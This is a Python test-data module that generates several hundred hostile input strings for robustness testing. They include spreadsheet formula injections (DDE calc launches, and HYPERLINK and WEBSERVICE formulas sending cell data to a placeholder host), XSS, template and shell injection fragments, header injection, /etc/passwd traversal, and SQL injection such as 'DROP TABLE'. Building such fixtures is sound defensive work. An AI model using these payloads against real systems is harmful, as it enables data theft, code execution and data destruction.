"""S16: some five hundred texts that try to be more than text, wherever they come out."""

from itertools import product
from typing import Final

_COMMANDS: Final = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "1+1",
    "A1",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.org")',
)
_SIGNS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹢")
_BEFORE: Final = ("", " ", "\u00a0", "'", "''", '"', "\u200b", "x;", "x,", "' ")

FORMULAS: Final = [f"{b}{s}{c}" for b, s, c in product(_BEFORE[:4], _SIGNS, _COMMANDS)] + [
    f"{b}{s}1+1" for b, s in product(_BEFORE[4:], _SIGNS)
]
MARKUP: Final = [
    f"{before}{text}{after}"
    for before, after in (("", ""), ('">', '<"'), ("'>", "<'"), ("-->", "<!--"))
    for text in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)>",
        "&lt;b&gt; &amp;amp; &#x3c;",
        "<!doctype html><title>x",
        "]]><x/>",
        "<style>*{display:none}</style>",
        '" autofocus onfocus="alert(1)',
    )
]
TEMPLATES: Final = [
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n%x",
    "{0.__class__}", "{{config}}", "{{ ''.__class__.__mro__ }}", "$(id)", "`id`", "; ls", "| id",
    "&& id", "%0a", "%00", "\\n", "\\u0000", "\\x00", "{", "}", "{}", "[[x]]", "__proto__",
]  # fmt: skip
HEADERS: Final = [
    f"Bea{end}{header}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b", "\x0c")
    for header in ("Bcc: victim@example.org", "Subject: x", "Set-Cookie: a=b")
]
PATHS: Final = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "C:\\x", "NUL",
    "CON.csv", "a/b", "a\\b", ".", "..", "~", "http://example.org", "javascript:alert(1)",
    "data:text/html,x", "//example.org",
]  # fmt: skip
SQL: Final = [
    "' OR 1=1 --", "'; DROP TABLE orders; --", '" OR ""="', "%", "_", "%%", "\\", "\\'", "NULL",
    "null", "None", "true", "0", "-1", "1e309", "NaN", "0x10", "1_000", "٣", "½",
]  # fmt: skip
UNSEEN: Final = [
    f"{before}{sign}{after}"
    for sign in (
        "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060",
        "\u180e", "\u061c", "\u200f", "\ufff9", "\U000e0001", "\ue000", "\ufffe", "\u0000",
        "\u0001", "\u001b[31m", "\u007f", "\u0080",
    )
    for before, after in (("Bea", "Booker"), ("", "Bea"), ("", ""))
]  # fmt: skip
SCRIPTS: Final = [
    "日本語", "עברית", "العربية", "हिन्दी", "ไทย", "🎟️👩‍👩‍👧", "Ελληνικά", "한국어", "Zoë",
    "Z\u0061\u0308", "ﬁ", "ẞ", "İı", "ǅ", "Å", "ℌ", "𝒵", "１２３", "Zalgo h̸̡̪͍̎", "O’Neil", "'t Hart",
    "-", "--", "—", "...", "“x”", "«x»", "a" * 200, "ж" * 200, "a" * 201, "é" * 400, "x y" * 90,
]  # fmt: skip

STRINGS: Final = [
    *FORMULAS, *MARKUP, *TEMPLATES, *HEADERS, *PATHS, *SQL, *UNSEEN, *SCRIPTS,
]  # fmt: skip
assert len(STRINGS) >= 500
